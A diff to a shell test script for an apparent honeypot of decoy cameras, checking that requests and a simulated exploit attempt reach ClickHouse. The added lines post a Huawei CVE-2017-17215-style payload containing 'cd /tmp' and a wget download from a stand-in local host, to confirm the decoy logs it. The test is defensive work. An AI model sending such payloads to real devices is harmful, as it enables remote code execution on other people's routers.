@@ -43,6 +43,9 @@ cp "$TMP/decoy.log" "$TMP/decoy-1.log"
 traffic() { # TAG: pages, one stream frame with its credential, a login with it
 	for i in $(seq 1 30); do curl -s -o /dev/null -A "ch-$1-$i" "$BASE/view/index.shtml?n=$i"; done
 	curl -s -o /dev/null -A $'ch-\xff\xfe-bytes' "$BASE/axis-cgi/jpg/image.cgi?x=$1"
+	# an exploit attempt with a NUL and bytes that are not UTF-8 in its payload
+	printf 'cd /tmp;\0wget http://127.0.0.1:9/x\xff\xfe' |
+		curl -s -o /dev/null --data-binary @- "$BASE/ctrlt/DeviceUpgrade_1?$1"
 	stream_frame "$BASE/axis-cgi/mjpg/video.cgi" "$TMP/f-$1.jpg" -A "ch-watch-$1"
 	wait_sql "SELECT COUNT(*) FROM views WHERE user_agent = 'ch-watch-$1' AND trap_password IS NOT NULL" 1
 	local u p
@@ -53,6 +56,7 @@ traffic() { # TAG: pages, one stream frame with its credential, a login with it
 }
 traffic a
 check "rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.requests WHERE user_agent = 'ch-a-30'" 1
+check "exploit rows reach ClickHouse" wait_ch "SELECT count() FROM fleet.exploits WHERE rule = 'huawei-cve-2017-17215'" 1
 
 # kill -9 mid-run, then the same database again
 kill -KILL "$DECOY_PID"
